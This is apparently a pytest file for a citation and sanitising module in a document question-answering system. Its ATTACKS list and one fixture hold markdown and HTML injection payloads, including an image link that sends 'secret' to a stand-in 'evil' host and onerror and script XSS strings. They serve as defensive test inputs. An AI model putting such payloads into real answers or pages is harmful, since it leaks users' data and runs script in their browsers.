"""What an answer rests on: the sentence, where it stands, and nothing that a page would load."""

from __future__ import annotations

import random
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lite.schema import Document, Trace, described
from lite.serve.citations import best_sentence, citations, inactive, inactive_so_far, message

TEXT = "The pump was bought in 2019. Its pressure is 3.5 bar, e.g. at noon. It is blue.\nLine two has no end"


@pytest.mark.parametrize(
    ("text", "answer", "question", "quote"),
    [
        (TEXT, "3.5 bar", "What is the pressure?", "Its pressure is 3.5 bar, e.g. at noon."),
        (TEXT, "2019", "When was it bought?", "The pump was bought in 2019."),
        (TEXT, "", "the end of line two", "Line two has no end"),
        ("| pump | bar |\n|---|---|\n| 1 | 3 |\n| 2 | 4 |", "4", "pressure of pump 2", "| 2 | 4 |"),
        ("泵于2019年购买。压力为3.5巴。", "3.5巴", "压力是多少？", "压力为3.5巴。"),
        ("", "4", "x", ""),
        ("One. Two.", "elephant", "giraffe", "One."),
    ],
)
def test_the_sentence_that_holds_the_answer_is_quoted(text: str, answer: str, question: str, quote: str) -> None:
    start, end = best_sentence(text, answer, question)
    assert text[start:end] == quote


@given(st.text(max_size=2000), st.text(max_size=30))
def test_a_quote_is_short_and_stands_in_the_text(text: str, answer: str) -> None:
    start, end = best_sentence(text, answer, "question")
    assert 0 <= start <= end <= len(text)
    assert end - start <= 300
    assert (end > start) == bool(text.strip())


def test_a_sentence_without_an_end_takes_no_long_time() -> None:
    assert best_sentence("a" * 200_000, "b", "c")[1] == 300
    assert best_sentence("A. " * 50_000, "b", "c") == (0, 2)


# What somebody may put into a document so that the program that shows the answer loads or follows it.
ATTACKS = [
    "![x](http://evil/?q=secret)", "[click](http://evil)", "<img src=x onerror=alert(1)>",
    "</details><script>x</script>",
    "![x][y]\n\n[y]: http://evil", "!\\[x](http://evil)", "<http://evil>", "<!-- x -->", "[[x]](http://evil)",
    "![[x](y)](http://evil)", "<<img src=x>", "![x]\n(http://evil)",
]  # fmt: skip


def shown(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).render(text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_a_document_becomes_a_link_a_picture_or_html(attack: str) -> None:
    assert not re.search(r"<(?!/?(?:p|em|strong|ul|li|br|code|pre|h\d|hr)\b)", shown(inactive(attack)))


@given(st.lists(st.sampled_from("![](): <a/\n>x\\\"'`"), max_size=40).map("".join))
def test_no_text_becomes_a_link_a_picture_or_html(text: str) -> None:
    assert not re.search(r"<(?:a|img|script|x)\b", shown(inactive(text)))


@given(st.lists(st.sampled_from("![](:<a/ "), max_size=40).map("".join), st.integers(0, 9))
def test_pieces_are_as_inactive_as_the_whole(text: str, seed: int) -> None:
    rng, sent, end = random.Random(seed), "", 0
    while end < len(text):
        end = min(len(text), end + rng.randint(1, 5))
        ready = inactive_so_far(text[:end])
        assert ready.startswith(sent)
        sent = ready
    assert inactive(text).startswith(sent)
    assert len(inactive(text)) - len(sent) <= 2  # the last character, and the space that may be put before it


def outcome(**changes) -> tuple[Trace, dict[str, Document]]:
    pages = [
        Document("a.pdf#page=3", "page", "a: ![x](http://evil)\nb", TEXT, page=3),
        Document("flag.png", "image", "Flag"),
    ]
    ids = tuple(page.id for page in pages)
    values = {
        "question": "What is the pressure?", "documents": described(pages), "retrieved": ids,
        "scores": dict.fromkeys(ids, 0.75), "kept": ids, "dropped": (), "shown": ids[::-1], "reasoning": "[2] helps.",
        "cited": ids, "ranking": ids, "answer": "3.5 bar", "raw": "…",
    }  # fmt: skip
    return Trace(**values | changes), {page.id: page for page in pages}


def test_an_answer_for_people_and_for_programs() -> None:
    trace, documents = outcome()
    page, flag = citations(trace, documents)
    assert page | {"title": ""} == {
        "number": 2, "document": "a.pdf#page=3", "kind": "page", "title": "", "page": 3, "score": 0.75,
        "quote": "Its pressure is 3.5 bar, e.g. at noon.", "quoted_by_model": False, "start": 29, "end": 67,
        "boxes": [],
    }  # fmt: skip
    assert flag["quote"] == ""
    assert message(trace, documents) == (
        "3.5 bar [2] [1]\n\nSources:\n- [2] a: ! [x] (http://evil) b, page 3: "
        "“Its pressure is 3.5 bar, e.g. at noon.”\n"
        "- [1] Flag"
    )


def test_what_the_model_quotes_comes_first_where_it_stands_there() -> None:
    quote = {"id": "a.pdf#page=3", "quote": "it is blue", "found": True, "start": 68, "end": 79, "page": 3}
    boxes = [[0.1, 0.2, 0.3, 0.4]]
    trace, documents = outcome(quotes=(quote | {"found": False, "boxes": []}, quote | {"boxes": boxes}))
    page, flag = citations(trace, documents)
    assert (page["quote"], page["quoted_by_model"], page["boxes"]) == ("It is blue.", True, boxes)
    assert not flag["quoted_by_model"]


def test_answers_without_sources_and_without_form() -> None:
    trace, documents = outcome(cited=(), answer="not in the documents")
    assert message(trace, documents) == "not in the documents"
    trace, documents = outcome(cited=(), failure="no <rank>", answer="rambling")
    assert citations(trace, documents) == []
    assert message(trace, documents).startswith("No answer: the model's output is malformed (no < rank>).")
    assert "- [1] Flag" in message(trace, documents)
